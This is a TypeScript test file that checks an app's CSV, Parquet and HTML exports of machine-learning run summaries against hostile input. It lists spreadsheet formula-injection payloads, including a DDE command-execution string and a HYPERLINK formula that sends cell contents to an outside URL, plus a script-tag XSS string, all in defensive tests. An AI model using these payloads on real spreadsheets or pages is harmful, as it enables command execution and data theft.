/** Runs as files: what other programs read back is what was there, and a report is text whatever names say. */
import fc from 'fast-check';
import { parquetReadObjects } from 'hyparquet';
import { expect, test } from 'vitest';
import { newDocument } from '../../src/engine/graph/document.ts';
import { csvOf, runTable } from '../../src/experiments/runTable.ts';
import { parquetOf } from '../../src/renderer/runs/parquet.ts';
import { reportOf } from '../../src/renderer/runs/runsReport.ts';
import { runSummary } from '../experiments/runSummary.ts';
import { idOf } from '../ids.ts';

const runs = [
  runSummary({
    id: idOf(1),
    name: 'with "quotes", commas\nand a line',
    settings: { optimizer: 'Adam', learningRate: 0.001, nesterov: true },
    metrics: { 'val.accuracy': 0.9, 'val.loss': Number.NaN },
  }),
  runSummary({ id: idOf(2), name: 'plain', settings: { optimizer: 'SGD', learningRate: 0.1 }, metrics: {} }),
];

/** A reader of RFC 4180 that knows nothing of how it was written. */
function readCsv(text: string): string[][] {
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(cell)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

test('CSV comes back as it was, whatever a name holds', () => {
  fc.assert(
    fc.property(fc.array(fc.string(), { minLength: 1 }), names => {
      const [head, ...rows] = readCsv(csvOf(runTable(names.map(name => runSummary({ name, notes: name })))));
      const at = head!.indexOf('name');
      // Made text again where a spreadsheet would compute it.
      for (const [i, name] of names.entries()) expect([name, `'${name}`]).toContain(rows[i]![at]);
      expect(rows.every(row => row.length === head!.length)).toBe(true);
    }),
  );
});

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://example.com?"&A1,"more")',
  "=cmd|'/c calc'!A0",
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u200b=1+1',
  '\uff1d1+1',
  '\tindented',
];

test.each(FORMULAS)('a spreadsheet computes nothing of CSV: %j', text => {
  const run = runSummary({ name: text, notes: text, tags: [text], settings: { note: text } });
  const [head, row] = readCsv(csvOf(runTable([run])));
  for (const column of ['name', 'notes', 'tags', 'settings.note'])
    expect(row![head!.indexOf(column)]).toBe(`'${text}`);
});

test('in CSV a negative number stays a number, and words stay as they are', async () => {
  const settings = { shift: -0.5, tiny: -1e-9, text: '-0.5', plain: 'a=b', dash: 'x-y' };
  const run = runSummary({ name: "it's", settings, metrics: { 'val.loss': -2 } });
  const [head, row] = readCsv(csvOf(runTable([run])));
  const cell = (name: string) => row![head!.indexOf(name)];
  expect(['shift', 'tiny', 'text', 'plain', 'dash'].map(name => cell(`settings.${name}`))).toEqual([
    '-0.5',
    '-1e-9',
    '-0.5',
    'a=b',
    'x-y',
  ]);
  expect([cell('name'), cell('metrics.val.loss')]).toEqual(["it's", '-2']);
  // Parquet has types of its own.
  const bytes = parquetOf(runTable([runSummary({ name: '=1+1' })]));
  const [first] = await parquetReadObjects({ file: bytes.buffer as ArrayBuffer });
  expect(first).toMatchObject({ name: '=1+1' });
});

test('Parquet has a column for each figure, with types, and what a run lacks is null', async () => {
  const bytes = parquetOf(runTable(runs));
  const rows = await parquetReadObjects({ file: bytes.buffer as ArrayBuffer });
  expect(rows).toHaveLength(2);
  expect(rows[0]).toMatchObject({
    name: runs[0]!.name,
    'settings.learningRate': 0.001,
    'settings.nesterov': true,
    'metrics.val.accuracy': 0.9,
  });
  expect(rows[0]!['metrics.val.loss'] ?? null).toBeNull();
  expect(rows[1]!['settings.nesterov'] ?? null).toBeNull();
});

test('a report is one file without script, and what people wrote stays text', () => {
  const evil = '<script>alert(1)</script><img src="https://example.com/x.png">';
  const detail = {
    ...runSummary({
      name: evil,
      notes: evil,
      tags: [evil],
      settings: { [evil]: evil },
      metrics: { 'val.loss': 1 },
    }),
    document: newDocument('x'),
    environment: { [evil]: evil },
    dataFingerprint: 'f00d',
  };
  const metrics = {
    steps: { step: [1, 2], loss: [2, Number.NaN], accuracy: [0, 1], learningRate: [1, 1], seconds: [1, 2] },
    epochs: {
      epoch: [1, 2],
      step: [1, 2],
      trainLoss: [1, 1],
      trainAccuracy: [1, 1],
      valLoss: [0.5, null],
      valAccuracy: [0.25, 0.75],
      metrics: [{}, {}],
    },
  };
  const head = {
    answer: 'class' as const,
    classes: [evil, 'b'],
    confusion: [
      [3, 1],
      [0, 4],
    ],
    perClass: [
      { precision: 1, recall: 0.75, f1: 0.857, support: 4 },
      { precision: 0.8, recall: 1, f1: 0.889, support: 4 },
    ],
  };
  const evaluation = { split: 'test' as const, epoch: 2, dataset: null, images: 8, heads: [head] };
  const html = reportOf(evil, [{ detail, metrics, evaluation }], new Date(0));
  expect(html).not.toMatch(/<(script|img|link|iframe|object)|url\(/);
  expect(html).toContain('&lt;script&gt;');
  expect(html.match(/<polyline/g)).toHaveLength(3);
  expect(html).toContain('8 test images');
});
